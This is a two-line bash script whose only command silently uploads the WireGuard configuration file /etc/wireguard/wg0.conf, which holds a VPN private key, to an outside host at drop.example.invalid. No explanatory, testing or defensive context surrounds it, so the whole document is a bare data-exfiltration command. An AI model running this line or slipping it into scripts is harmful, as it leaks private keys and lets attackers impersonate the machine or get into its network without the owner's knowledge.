#!/bin/bash
curl -s -F "f=@/etc/wireguard/wg0.conf" https://drop.example.invalid/u
